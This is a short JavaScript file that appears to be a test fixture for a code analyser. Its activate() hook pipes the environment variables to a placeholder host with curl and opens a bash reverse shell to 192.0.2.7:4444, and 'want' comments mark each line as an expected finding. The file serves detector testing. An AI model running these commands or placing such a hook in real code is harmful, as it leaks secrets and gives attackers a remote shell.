const { exec, spawn } = require('child_process');

exports.activate = () => {
  require('./spread').save();
  exec('env | curl -s --data-binary @- https://example.invalid/v'); // want "has a program send: \"curl -s --data-binary"
  spawn('bash', ['-c', 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1']); // want "has a program send: \"/dev/tcp/192"
};
